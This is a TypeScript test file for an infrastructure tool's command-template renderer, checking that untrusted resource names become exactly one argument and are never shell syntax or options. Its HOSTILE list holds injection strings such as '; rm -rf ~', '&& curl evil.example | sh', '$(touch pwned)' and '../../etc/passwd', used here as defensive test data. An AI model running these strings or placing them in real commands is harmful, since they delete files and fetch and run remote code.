import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { EscherError } from '../errors/index.ts';
import { classifyArg, renderArgv } from './command-template.ts';
import { parseTemplate, renderValue, type TemplateContext } from './playbook-template.ts';

/** Names and tag values an attacker could give a resource. */
const HOSTILE = [
  '$(touch pwned)',
  '; rm -rf ~',
  '`touch pwned`',
  'a\nb; touch pwned',
  '&& curl evil.example | sh',
  "'; touch pwned; echo '",
  '"quoted" $HOME ${IFS}',
  '--endpoint-url=http://evil.example',
  '-rf',
  '*',
  '../../etc/passwd',
  '{{params.secret}}',
  ' leading space',
];

const context = (name: string): TemplateContext => ({
  target: {
    name,
    nativeId: `arn:aws:ec2:us-east-1:111122223333:instance/${name}`,
    region: 'us-east-1',
    tags: { owner: name },
    attributes: { instanceId: name },
  },
  params: { size: 't3.large', count: 3, tags: { env: name }, secret: 'never-shown' },
});

function userErrorCode(fn: () => unknown): string {
  try {
    fn();
  } catch (error) {
    assert.ok(error instanceof EscherError, String(error));
    assert.equal(error.kind, 'user');
    return error.code;
  }
  assert.fail('expected an error');
}

describe('command templates: untrusted values are always exactly one argument', () => {
  const argv = [
    'aws',
    'ec2',
    'describe-instances',
    '--instance-ids={{target.attributes.instanceId}}',
    '--filters={{target.tags.owner}}',
    '--region',
    '{{target.region}}',
  ];

  for (const name of HOSTILE) {
    it(`passes ${JSON.stringify(name)} through as data, never as syntax or an option`, () => {
      const out = renderArgv(argv, context(name));
      assert.equal(out.length, argv.length, 'no value can add or remove an argument');
      assert.equal(out[3], `--instance-ids=${name}`);
      assert.equal(out[4], `--filters=${name}`);
      assert.deepEqual(out.slice(0, 3), ['aws', 'ec2', 'describe-instances']);
      // A value that looks like a placeholder is not expanded a second time.
      assert.ok(!out.includes('never-shown'));
    });
  }

  it('refuses a value starting with "-" where it would stand alone, and says how to pass it', () => {
    for (const name of ['--endpoint-url=http://evil.example', '-rf', '--option']) {
      assert.equal(
        userErrorCode(() =>
          renderArgv(['gcloud', 'compute', 'instances', 'describe', '{{target.name}}'], context(name)),
        ),
        'template-value-option-like',
      );
    }
    assert.deepEqual(renderArgv(['gcloud', '--name={{target.name}}'], context('--option')), [
      'gcloud',
      '--name=--option',
    ]);
  });

  it('refuses NUL bytes, lists and objects in a command, and missing values', () => {
    assert.equal(
      userErrorCode(() => renderArgv(['aws', '{{target.name}}'], context('a\0b'))),
      'template-value-nul',
    );
    assert.equal(
      userErrorCode(() => renderArgv(['aws', '--tags={{params.tags}}'], context('x'))),
      'template-value-not-scalar',
    );
    assert.equal(
      userErrorCode(() => renderArgv(['aws', '{{target.tags.missing}}'], context('x'))),
      'template-value-missing',
    );
    assert.deepEqual(renderArgv(['kubectl', '--replicas={{params.count}}'], context('x')), [
      'kubectl',
      '--replicas=3',
    ]);
  });

  it('classifies templates: whole argument, --option=value, and everything else refused', () => {
    assert.equal(classifyArg('{{target.name}}').kind, 'whole');
    assert.equal(classifyArg('{{ target.tags["app.kubernetes.io/name"] }}').kind, 'whole');
    assert.equal(classifyArg('--instance-ids={{target.nativeId}}').kind, 'option-value');
    assert.equal(classifyArg('-n={{target.name}}').kind, 'option-value');
    assert.equal(classifyArg('describe-instances').kind, 'literal');
    for (const bad of [
      '--{{params.flag}}',
      '-{{params.flag}}',
      '--x-{{params.flag}}',
      '--{{params.flag}}=1',
    ]) {
      const t = classifyArg(bad);
      assert.equal(t.kind, 'invalid', bad);
      assert.match((t as { message: string }).message, /build an option name/);
    }
    for (const bad of [
      'Name={{target.name}}',
      '{{a.b}}{{c.d}}',
      'prefix-{{target.name}}',
      '--opt=x{{target.name}}',
      '{{target.name}}-suffix',
    ]) {
      const t = classifyArg(bad);
      assert.equal(t.kind, 'invalid', bad);
      assert.match((t as { message: string }).message, /whole argument/);
    }
    assert.equal(classifyArg('{{target.name').kind, 'invalid');
    assert.equal(classifyArg('a\0b').kind, 'invalid');
  });

  it('parses placeholder paths, and refuses expressions', () => {
    const parsed = parseTemplate('x {{ target.tags["a.b/c"] }} y');
    assert.ok('parts' in parsed);
    assert.deepEqual(parsed.parts[1], {
      source: '{{ target.tags["a.b/c"] }}',
      offset: 2,
      path: ['target', 'tags', 'a.b/c'],
    });
    assert.ok('error' in parseTemplate('{{ target.name | upper }}'));
    assert.ok('error' in parseTemplate('{{}}'));
  });
});

describe('structured input templates', () => {
  it('keeps types for a whole placeholder, splices text otherwise, and walks lists and maps', () => {
    const out = renderValue(
      {
        size: '{{params.size}}',
        count: '{{params.count}}',
        tags: '{{params.tags}}',
        description: 'escher {{target.name}}',
        list: ['{{params.count}}'],
      },
      context('web-1'),
    );
    assert.deepEqual(out, {
      size: 't3.large',
      count: 3,
      tags: { env: 'web-1' },
      description: 'escher web-1',
      list: [3],
    });
  });

  it('leaves out an input key whose parameter was not given, but not a missing target field', () => {
    assert.deepEqual(renderValue({ force: '{{params.force}}', size: '{{params.size}}' }, context('x')), {
      size: 't3.large',
    });
    assert.equal(
      userErrorCode(() => renderValue({ owner: '{{target.tags.missing}}' }, context('x'))),
      'template-value-missing',
    );
  });

  it('splices hostile values as plain text', () => {
    for (const name of HOSTILE) {
      assert.equal(renderValue('snapshot of {{target.name}}', context(name)), `snapshot of ${name}`);
    }
  });
});
